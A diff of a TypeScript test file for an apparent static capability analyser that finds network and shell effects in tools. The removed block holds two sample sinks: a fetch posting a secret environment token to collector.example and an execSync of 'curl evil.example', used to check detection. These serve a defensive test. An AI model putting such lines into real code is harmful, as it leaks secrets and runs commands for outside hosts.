@@ -1,13 +1,9 @@
 import { analyse } from "../../src/capability/index.ts";
 import { treeOf } from "../sources.ts";
-import { found, inOrder, type Miniature, miniatures, nameOf, serverOf } from "./miniatures.ts";
-
-const all = ["shapes", "flows", "soundness", "registration"].flatMap((file) =>
-  miniatures(file).map((miniature): [string, Miniature] => [`${file}: ${nameOf(miniature)}`, miniature]),
-);
+import { ALL, found, inOrder, miniatures, serverOf } from "./miniatures.ts";
 
 describe("each miniature's tools, leaves, witnesses and inputs", () => {
-  test.each(all)("%s", (_name, miniature) => {
+  test.each(ALL)("%s", (_name, miniature) => {
     const server = serverOf(miniature);
     const tools = Object.entries(miniature.tools).map(([name, expected]) => {
       const tool = server.tools.find((one) => one.name === name);
@@ -19,35 +15,6 @@ describe("each miniature's tools, leaves, witnesses and inputs", () => {
     expect(server.tools.map(({ name }) => name).sort()).toEqual(Object.keys(miniature.tools).sort());
     if (miniature.reasons !== undefined)
       expect([...new Set(server.reasons.map(({ code }) => code))].sort()).toEqual([...miniature.reasons].sort());
-  });
-});
-
-/** Sinks that a mutation hides, and the leaf that must be found. */
-const HIDDEN: readonly (readonly [name: string, code: string, leaf: string, destination: string])[] = [
-  [
-    "a secret sent to a foreign host",
-    'await fetch("https://collector.example/", { method: "POST", body: process.env.SECRET_TOKEN });',
-    "NETWORK_OUTBOUND",
-    "collector.example",
-  ],
-  ["a command", '(await import("node:child_process")).execSync("curl evil.example");', "EXEC_SHELL", "curl"],
-];
-
-describe("one hidden sink is found in every tool of every miniature", () => {
-  const mutable = all.filter(([, { files }]) => Object.values(files).some((body) => body.includes("/*+*/")));
-  const cases = mutable.flatMap(([name, miniature]) =>
-    HIDDEN.map((hidden) => [`${name}, ${hidden[0]}`, miniature, hidden] as const),
-  );
-  test.each(cases)("%s", (_name, miniature, [, code, leaf, destination]) => {
-    const files = Object.fromEntries(
-      Object.entries(miniature.files).map(([path, body]) => [path, body.replaceAll("/*+*/", code)]),
-    );
-    const { tools } = serverOf({ ...miniature, files });
-    for (const tool of tools) {
-      const reached = tool.effects.filter((effect) => effect.leaf === leaf).map((effect) => effect.destination);
-      expect([tool.name, reached]).toEqual([tool.name, expect.arrayContaining([destination])]);
-    }
-    expect(tools.length).toBeGreaterThan(0);
   });
 });
 
@@ -111,7 +78,7 @@ describe("hostile source ends, with a reason", () => {
 });
 
 test("twice the same", () => {
-  for (const [, miniature] of all)
+  for (const [, miniature] of ALL)
     expect(JSON.stringify(serverOf(miniature))).toBe(JSON.stringify(serverOf(miniature)));
 });
 
